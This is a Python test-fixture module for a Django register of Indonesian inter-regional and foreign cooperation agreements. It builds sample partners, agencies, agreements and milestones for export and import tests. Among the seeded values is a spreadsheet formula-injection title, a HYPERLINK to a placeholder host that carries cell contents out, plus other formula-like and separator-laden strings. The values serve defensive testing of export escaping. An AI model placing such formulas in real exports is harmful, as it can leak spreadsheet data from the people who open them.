"""Factories for the register's models. Tests name the few records they care about and let these
fill in the rest.

Also the records most tests share: an official (``make_official``) and a small register with
every awkward value an export and import must carry (``build_register``): Chinese and Indonesian
names, a title that is a spreadsheet formula, a partner starting with ``@`` and holding the cell
separator, agreements with and without a reference, chains of agreements, a recorded status the
dates overrule, internal records."""

import datetime
from decimal import Decimal

import factory
from django.contrib.auth.models import Group

from access.models import Role
from agreements.models import Agency, Agreement, Document, Milestone, Sector
from agreements.parties import writing_parties
from partners.models import Country, Partner, Region, Subdivision


class CountryFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Country
        django_get_or_create = ("code",)

    code = "CN"
    alpha3 = factory.LazyAttribute(
        lambda o: {"ID": "IDN", "CN": "CHN", "JP": "JPN"}.get(o.code, o.code + "X")
    )
    name_id = factory.LazyAttribute(
        lambda o: {"ID": "Indonesia", "CN": "Tiongkok", "JP": "Jepang"}.get(o.code, o.code)
    )
    name_en = factory.LazyAttribute(
        lambda o: {"ID": "Indonesia", "CN": "China", "JP": "Japan"}.get(o.code, o.code)
    )


class SubdivisionFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Subdivision
        django_get_or_create = ("code",)

    country = factory.SubFactory(CountryFactory)
    code = factory.LazyAttribute(lambda o: f"{o.country.code}-AH")
    name = "Anhui Sheng"
    kind = "Province"


class ProvinceFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Region
        django_get_or_create = ("code",)

    code = factory.Sequence(lambda n: f"{10 + n % 90:02d}")
    name = factory.LazyAttribute(lambda o: f"Provinsi {o.code}")
    level = Region.Level.PROVINCE
    province = None


class RegencyFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Region
        django_get_or_create = ("code",)

    province = factory.SubFactory(ProvinceFactory)
    code = factory.Sequence(lambda n: f"{1 + n % 99:02d}")
    level = Region.Level.REGENCY
    name = factory.LazyAttribute(lambda o: f"Kabupaten {o.code}")

    @classmethod
    def _create(cls, model_class, *args, **kwargs):
        code = kwargs["code"]
        if "." not in code:
            kwargs["code"] = f"{kwargs['province'].code}.{code}"
        return super()._create(model_class, *args, **kwargs)


class SectorFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Sector
        django_get_or_create = ("slug",)

    slug = factory.Sequence(lambda n: f"sector-{n}")
    name_id = factory.LazyAttribute(lambda o: f"Bidang {o.slug}")
    name_en = factory.LazyAttribute(lambda o: f"Sector {o.slug}")


class PartnerFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Partner

    name = factory.Sequence(lambda n: f"Partner {n}")
    kind = Partner.Kind.FOREIGN_REGION
    country = factory.SubFactory(CountryFactory)


class AgencyFactory(factory.django.DjangoModelFactory):
    """An implementing agency (OPD) of a province."""

    class Meta:
        model = Agency

    region = factory.SubFactory(ProvinceFactory)
    name = factory.Sequence(lambda n: f"Dinas {n}")
    short_name = ""


class AgreementFactory(factory.django.DjangoModelFactory):
    """A public MoU between two provinces (KSDD), signed and in force."""

    class Meta:
        model = Agreement
        skip_postgeneration_save = True

    title = factory.Sequence(lambda n: f"Kerja sama {n}")
    kind = Agreement.Kind.MOU
    scope = "ksdd"
    status = Agreement.Status.IN_FORCE
    lead_region = factory.SubFactory(ProvinceFactory)
    signed_on = datetime.date(2024, 1, 15)
    in_force_from = datetime.date(2024, 1, 15)
    expires_on = datetime.date(2029, 1, 14)

    # The parties are written as every path of the site writes them: into the history entry of
    # the agreement's save, not as entries of their own (agreements.parties).
    @factory.post_generation
    def regions(self, create, extracted, **kwargs):
        if not create:
            return
        with writing_parties(self):
            self.regions.add(self.lead_region, *(extracted or []))

    @factory.post_generation
    def partners(self, create, extracted, **kwargs):
        if create and extracted:
            with writing_parties(self):
                self.partners.add(*extracted)

    @factory.post_generation
    def sectors(self, create, extracted, **kwargs):
        if create and extracted:
            with writing_parties(self):
                self.sectors.add(*extracted)

    @factory.post_generation
    def agencies(self, create, extracted, **kwargs):
        if create and extracted:
            with writing_parties(self):
                self.agencies.add(*extracted)

    # Where its chain stands, as every write path of the site stores it.
    @factory.post_generation
    def progress(self, create, extracted, **kwargs):
        if create:
            Agreement.objects.filter(pk=self.pk).refresh_progress()


class MilestoneFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Milestone

    agreement = factory.SubFactory(AgreementFactory)
    kind = Milestone.Kind.ACTIVITY
    title = factory.Sequence(lambda n: f"Kegiatan {n}")
    due_on = datetime.date(2025, 6, 1)

    @classmethod
    def _create(cls, model_class, *args, **kwargs):
        milestone = super()._create(model_class, *args, **kwargs)
        # Where its agreement's chain stands, as every write path of the site stores it.
        Agreement.objects.filter(pk=milestone.agreement_id).refresh_progress()
        return milestone


class DocumentFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Document

    agreement = factory.SubFactory(AgreementFactory)
    title = "Naskah MoU"
    kind = Document.Kind.SIGNED_TEXT
    language = Document.Language.INDONESIAN
    file = factory.django.FileField(filename="naskah.pdf", data=b"%PDF-1.4\n%%EOF\n")


def make_official(django_user_model, username="pejabat"):
    """An official (Pejabat role): reads internal records, changes nothing, not staff."""
    user = django_user_model.objects.create_user(username=username, password="a-long-password")
    group, _created = Group.objects.get_or_create(name=Role.OFFICIAL)
    user.groups.add(group)
    return user


FORMULA_TITLE = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
AT_PARTNER = "@lliance Pendidikan; Nusantara"
CHINESE_PARTNER = "安徽省"


def build_register():
    """Create the register and return its records by name."""
    kaltim = ProvinceFactory(code="64", name="Kalimantan Timur")
    samarinda = RegencyFactory(code="64.72", name="Kota Samarinda", level="city", province=kaltim)
    kalteng = ProvinceFactory(code="62", name="Kalimantan Tengah")
    bali = ProvinceFactory(code="51", name="Bali")
    china = CountryFactory(code="CN")
    indonesia = CountryFactory(code="ID")
    anhui = PartnerFactory(
        name=CHINESE_PARTNER,
        name_local="",
        kind=Partner.Kind.FOREIGN_REGION,
        country=china,
        subdivision=SubdivisionFactory(code="CN-AH", country=china),
    )
    hefei = PartnerFactory(name="Kota Hefei", kind=Partner.Kind.FOREIGN_CITY, country=china)
    alliance = PartnerFactory(name=AT_PARTNER, kind=Partner.Kind.NGO, country=indonesia)
    unmul = PartnerFactory(
        name="Universitas Mulawarman", kind=Partner.Kind.UNIVERSITY, country=indonesia
    )
    education = SectorFactory(slug="education", name_id="Pendidikan", name_en="Education")
    trade = SectorFactory(slug="trade", name_id="Perdagangan", name_en="Trade")
    food = SectorFactory(slug="food-security", name_id="Ketahanan pangan", name_en="Food security")
    tourism = SectorFactory(slug="tourism", name_id="Pariwisata", name_en="Tourism")

    anhui_mou = AgreementFactory(
        reference="120/4321/B.Kerjasama/2024",
        title="Kerja sama Provinsi Kalimantan Timur dan Provinsi Anhui",
        kind=Agreement.Kind.MOU,
        scope="ksdpl",
        # Recorded as signed; in force since its date, so it *shows* as in force.
        status=Agreement.Status.SIGNED,
        lead_region=kaltim,
        partners=[anhui],
        sectors=[education, trade, food],
        proposed_on=datetime.date(2023, 12, 5),
        signed_on=datetime.date(2024, 6, 10),
        in_force_from=datetime.date(2024, 6, 10),
        expires_on=datetime.date(2029, 6, 9),
        summary="Pendidikan, perdagangan, investasi;\n“hilirisasi” industri.",
        source_url="https://contoh.invalid/berita/kaltim-anhui",
    )
    # An agency whose name holds the cell separator, and a signatory's office a spreadsheet
    # would take for a formula.
    with writing_parties(anhui_mou):
        anhui_mou.agencies.add(
            AgencyFactory(
                region=kaltim, name="Dinas Pendidikan; Kebudayaan", short_name="Disdikbud"
            )
        )
    anhui_mou.signatories.create(
        party="Pemerintah Provinsi Kalimantan Timur",
        name="Isran Noor",
        office="=Gubernur Kalimantan Timur",
    )
    anhui_mou.signatories.create(
        party=CHINESE_PARTNER, name="王清宪", office="安徽省省长", position=1
    )
    # The budget and a contact person: in the exports of officials and staff only.
    budget = {"budget_amount": Decimal("1250000000.00"), "budget_source": "apbd"}
    Agreement.objects.filter(pk=anhui_mou.pk).update(**budget)
    for name, value in budget.items():
        setattr(anhui_mou, name, value)
    anhui_mou.contacts.create(
        party="Biro Pemerintahan; Setda Kaltim",
        name="Lina Marlina",
        office="Analis Kerja Sama",
        email="lina.kerjasama@kaltimprov.go.id",
        phone="+62 541 733333",
    )
    MilestoneFactory(
        agreement=anhui_mou,
        kind="signing",
        title="Penandatanganan",
        done_on=datetime.date(2024, 6, 10),
        due_on=None,
    )
    MilestoneFactory(
        agreement=anhui_mou,
        kind="evaluation",
        title="Monev tahun pertama",
        due_on=datetime.date(2025, 6, 30),
    )
    MilestoneFactory(
        agreement=anhui_mou,
        kind="activity",
        title="Beasiswa guru",
        due_on=datetime.date(2026, 9, 1),
    )
    sister_city = AgreementFactory(
        reference="",
        title="Rencana kota kembar Samarinda – Hefei",
        kind=Agreement.Kind.LOI,
        scope="ksdpl",
        status=Agreement.Status.EXPLORATION,
        lead_region=samarinda,
        partners=[hefei],
        sectors=[tourism],
        proposed_on=datetime.date(2024, 4, 23),
        signed_on=None,
        in_force_from=None,
        expires_on=None,
        follows=anhui_mou,
        relation=Agreement.Relation.SPAWNS,
        visibility=Agreement.Visibility.INTERNAL,
    )
    formula = AgreementFactory(
        reference="-7/KSDD/2019",
        title=FORMULA_TITLE,
        kind=Agreement.Kind.MOU,
        scope="ksdd",
        # Recorded as in force, but past its expiry: shows as expired.
        status=Agreement.Status.IN_FORCE,
        lead_region=kalteng,
        regions=[bali],
        sectors=[tourism],
        signed_on=datetime.date(2019, 3, 1),
        in_force_from=datetime.date(2019, 3, 1),
        expires_on=datetime.date(2024, 2, 29),
    )
    extension = AgreementFactory(
        reference="'ext/2024",
        title="Perpanjangan kerja sama Kalteng – Bali",
        kind=Agreement.Kind.AMENDMENT,
        scope="ksdd",
        status=Agreement.Status.PREPARATION,
        lead_region=kalteng,
        regions=[bali],
        signed_on=None,
        in_force_from=None,
        expires_on=None,
        follows=formula,
        relation=Agreement.Relation.EXTENDS,
    )
    campus = AgreementFactory(
        reference="",
        title="PKS beasiswa daerah dengan Universitas Mulawarman",
        kind=Agreement.Kind.PKS,
        scope="ksdpk",
        status=Agreement.Status.IN_FORCE,
        lead_region=kaltim,
        regions=[samarinda],
        partners=[unmul, alliance],
        sectors=[education],
        signed_on=datetime.date(2025, 1, 20),
        in_force_from=datetime.date(2025, 2, 1),
        expires_on=datetime.date(2030, 1, 19),
        visibility=Agreement.Visibility.INTERNAL,
    )
    return {
        "kaltim": kaltim,
        "samarinda": samarinda,
        "kalteng": kalteng,
        "bali": bali,
        "anhui": anhui,
        "hefei": hefei,
        "alliance": alliance,
        "unmul": unmul,
        "education": education,
        "trade": trade,
        "food": food,
        "tourism": tourism,
        "anhui_mou": anhui_mou,
        "sister_city": sister_city,
        "formula": formula,
        "extension": extension,
        "campus": campus,
    }


def snapshot():
    """Every agreement as comparable values: its fields, its follows, its parties and sectors."""
    rows = []
    for agreement in Agreement.objects.select_related("lead_region", "follows").prefetch_related(
        "regions", "partners", "sectors"
    ):
        follows = agreement.follows
        rows.append(
            (
                agreement.reference,
                agreement.title,
                agreement.kind,
                agreement.scope,
                agreement.status,
                agreement.visibility,
                agreement.lead_region.code,
                agreement.summary,
                agreement.source_url,
                *(agreement.known(name) for name in Agreement.DATE_FIELDS),
                (follows.reference, follows.title) if follows else None,
                agreement.relation,
                sorted(region.code for region in agreement.regions.all()),
                sorted(
                    (p.name, p.name_local, p.country_id, p.subdivision_id, p.kind)
                    for p in agreement.partners.all()
                ),
                sorted(sector.slug for sector in agreement.sectors.all()),
            )
        )
    return sorted(rows, key=lambda row: (row[0], row[1]))
